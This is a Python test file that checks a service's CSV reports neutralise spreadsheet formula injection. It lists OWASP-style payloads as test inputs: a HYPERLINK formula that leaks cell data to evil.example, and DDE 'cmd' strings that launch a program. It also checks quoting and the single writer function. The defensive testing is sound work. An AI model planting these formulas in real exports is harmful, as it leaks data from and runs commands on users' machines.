"""CSV injection (OWASP): text a caller wrote never reaches a CSV the service writes as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from app.common.csv import write
from tests.support import Api, referral_body

APP = Path(__file__).resolve().parents[2] / "app"

# Text that a spreadsheet would run, one for each character OWASP names and the full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
]
STARTS = tuple(formula[0] for formula in FORMULAS)


async def summary_csv(api: Api) -> list[list[str]]:
    """The manager's summary of MDI as CSV, parsed."""
    r = await api.client.get(
        "/reports/summary?prisonId=MDI", headers={**api.keys.manager.headers, "Accept": "text/csv"}
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(r.text, newline="")))


class TestSummaryCsv:
    @pytest.mark.parametrize("system", FORMULAS, ids=[f"starts {ord(f[0]):#06x}" for f in FORMULAS])
    async def test_a_source_system_written_as_a_formula_comes_out_as_text(
        self, api: Api, system: str
    ) -> None:
        body = referral_body()
        body["source"]["system"] = system
        r = await api.client.post("/referrals", json=body, headers=api.keys.referrer.headers)
        assert r.status_code == 201, r.text
        table = await summary_csv(api)
        rows = {(section, item): value for section, item, value in table[1:]}
        assert rows[("bySource", "'" + system)] == "1"
        assert not [cell for row in table for cell in row if cell.startswith(STARTS)]

    async def test_figures_stay_numbers(self, api: Api) -> None:
        await api.refer()
        r = await api.client.get(
            "/reports/summary?prisonId=MDI", headers={**api.keys.manager.headers, "Accept": "text/csv"}
        )
        assert '"casesReferred","",1\r\n' in r.text
        assert '"bySource","TEST",1\r\n' in r.text


class TestWrite:
    def test_text_is_quoted_and_neutralised_and_numbers_are_left_bare(self) -> None:
        assert write([["=1+1", -1.5, -2, 0, None, "plain", 'say "hi", then go']]) == (
            '"\'=1+1",-1.5,-2,0,"","plain","say ""hi"", then go"\r\n'
        )

    def test_text_that_only_looks_like_a_negative_number_is_neutralised(self) -> None:
        assert write([["-5"]]) == '"\'-5"\r\n'

    def test_every_csv_of_the_service_is_written_by_the_one_function(self) -> None:
        writers = [
            str(path.relative_to(APP))
            for path in APP.rglob("*.py")
            if path != APP / "common" / "csv.py"
            and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.MULTILINE)
        ]
        assert not writers, f"CSV written without app.common.csv.write: {writers}"
